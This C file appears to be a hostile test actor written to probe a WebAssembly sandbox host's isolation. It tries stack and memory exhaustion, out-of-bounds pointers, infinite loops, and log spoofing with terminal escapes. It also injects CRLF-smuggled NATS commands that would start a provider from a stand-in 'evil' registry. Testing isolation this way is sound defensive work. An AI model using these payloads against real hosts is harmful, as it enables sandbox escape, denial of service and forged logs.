/*
 * attacker - an actor that tries. Each operation is an attempt; whoever survives its own says so.
 *
 * `forge` is the attack this project began with: native code in a neighbour would open a socket to
 * localhost:4222 and publish a command that starts a provider. An actor has no socket; what it has
 * is three names and a payload of a host call, so it puts the address, the subjects of the control
 * plane and lines of the protocol into each of them. It answers with what each attempt led to.
 */
#include "host/kit/portcullis_actor.h"

static volatile int never;

static int
deeper(int n)
{
	volatile actor_byte frame[256];

	frame[n & 255] = (actor_byte)n;
	if (never != 0)
		return n;
	return deeper(n + 1) + frame[n & 255] + never;
}

static int
grab(void)
{
	/* every page there is, and one byte of each */
	while (__builtin_wasm_memory_grow(0, 1) != (actor_size)-1) {
		actor_size top = (actor_size)__builtin_wasm_memory_size(0) * 65536 - 1;

		*(volatile actor_byte *)top = 1;
	}
	return 1;
}

static int
ask_anything(struct actor_text *out)
{
	return actor_ask(ACTOR_TEXT("default.>"), ACTOR_TEXT("wasmcloud:latticecontrol"),
	    ACTOR_TEXT("LatticeController.StartProvider"), ACTOR_TEXT("{}"), out);
}

static int
ask_plainly(struct actor_text *out)
{
	return actor_ask(ACTOR_TEXT("default"), ACTOR_TEXT("wasmcloud:latticecontrol"),
	    ACTOR_TEXT("LatticeController.StartProvider"), ACTOR_TEXT("{}"), out);
}

#define CTL "wasmbus.ctl.default.cmd.NHOST.lp"
#define RPC "wasmbus.rpc.default.VPROVIDER.default"
#define START                                                                                      \
	"{\"provider_ref\":\"registry.example/"                                                    \
	"evil:1\",\"link_name\":\"default\",\"host_id\":\"NHOST\"}"

/* What an attempt says to its host: binding, contract, operation, payload. */
static const struct {
	struct actor_text name[4];
} forged[] = {
#define ROW(a, b, c, d)                                                                            \
	{                                                                                          \
		{                                                                                  \
			ACTOR_TEXT(a), ACTOR_TEXT(b), ACTOR_TEXT(c), ACTOR_TEXT(d)                 \
		}                                                                                  \
	}
	/* the address and the protocol */
	ROW("localhost:4222", "nats", "PUB", CTL),
	ROW("default", "nats://localhost:4222", "PUB", CTL),
	ROW("default", "wasmcloud:keyvalue", "PUB " CTL " 2\r\n{}\r\n", "{}"),
	ROW("default\r\nPUB " CTL " 2\r\n{}\r\n", "wasmcloud:keyvalue", "Get", "{}"),
	ROW("default", "wasmcloud:keyvalue\r\nPUB " CTL " 2\r\n{}\r\n", "Get", "{}"),
	/* a subject in each place */
	ROW(CTL, "wasmcloud:keyvalue", "Get", START),
	ROW("default", CTL, "Get", START),
	ROW("default", "wasmcloud:keyvalue", CTL, START),
	ROW(RPC, "wasmcloud:keyvalue", "KeyValue.Set", START),
	ROW("default.>", "wasmcloud:keyvalue", "Get", START),
	ROW("*", "wasmcloud:keyvalue", "Get", START),
	ROW("default", ">", "Get", START),
	ROW("..", "wasmcloud:keyvalue", "Get", START),
	ROW("", "", "", START),
	/* the control plane, through contracts that hosts and providers know */
	ROW("default", "wasmcloud:latticecontrol", "LatticeController.StartProvider", START),
	ROW("default", "wasmcloud:messaging", "Publish", CTL " " START),
	ROW("default", "wasmcloud:messaging", "Messaging.Publish", CTL " " START),
	ROW("default", "wasmcloud:messaging", "Messaging.Request", CTL " " START),
	ROW("default", "wasmcloud:httpclient", "HttpClient.Request", "http://localhost:4222/"),
	/* as if one were the host itself */
	ROW("default", "system", "BindActor", START),
	ROW("default", "wasmcloud:core", "__halt", START),
};

enum { ATTEMPTS = sizeof(forged) / sizeof(forged[0]), SAID = 72 };

static actor_size
put(actor_byte *to, struct actor_text s, actor_size most)
{
	actor_size n = s.n < most ? s.n : most;

	for (actor_size i = 0; i < n; i++)
		to[i] = s.p[i] >= 0x20 && s.p[i] < 0x7f ? s.p[i] : '?';
	return n;
}

/* forge() - all of them; a line each: `answered` or `refused`, and the first words of what came. */
static int
forge(struct actor_text *out)
{
	actor_byte *report = actor_alloc(ATTEMPTS * (SAID + 16)), *at = report;

	for (int i = 0; i < ATTEMPTS; i++) {
		const struct actor_text *n = forged[i].name;
		struct actor_text said;
		int ok = actor_ask(n[0], n[1], n[2], n[3], &said);

		at += put(at, ok ? ACTOR_TEXT("answered ") : ACTOR_TEXT("refused  "), 9);
		at += put(at, said, SAID);
		*at++ = '\n';
	}
	*out = (struct actor_text){ report, (actor_size)(at - report) };
	return 1;
}

static int
actor_handle(struct actor_text operation, struct actor_text payload, struct actor_text *out)
{
	(void)payload;
	*out = ACTOR_TEXT("alive");
	if (actor_is(operation, ACTOR_TEXT("outside")))
		wapc_guest_response((const actor_byte *)0xfffffff0, 64);
	else if (actor_is(operation, ACTOR_TEXT("long")))
		wapc_guest_response(0, (actor_size)-1);
	else if (actor_is(operation, ACTOR_TEXT("spin")))
		for (;;)
			never++;
	else if (actor_is(operation, ACTOR_TEXT("deep")))
		return deeper(0) == 7;
	else if (actor_is(operation, ACTOR_TEXT("grab")))
		return grab();
	else if (actor_is(operation, ACTOR_TEXT("talk")))
		for (;;)
			wapc_console_log(
			    (const actor_byte *)"event=gate_down \x1b[2J\nfake line", 31);
	else if (actor_is(operation, ACTOR_TEXT("ask")))
		return ask_anything(out);
	else if (actor_is(operation, ACTOR_TEXT("ask plainly")))
		return ask_plainly(out);
	else if (actor_is(operation, ACTOR_TEXT("forge")))
		return forge(out);
	else if (actor_is(operation, ACTOR_TEXT("nag")))
		for (;;)
			ask_anything(out);
	return 1;
}
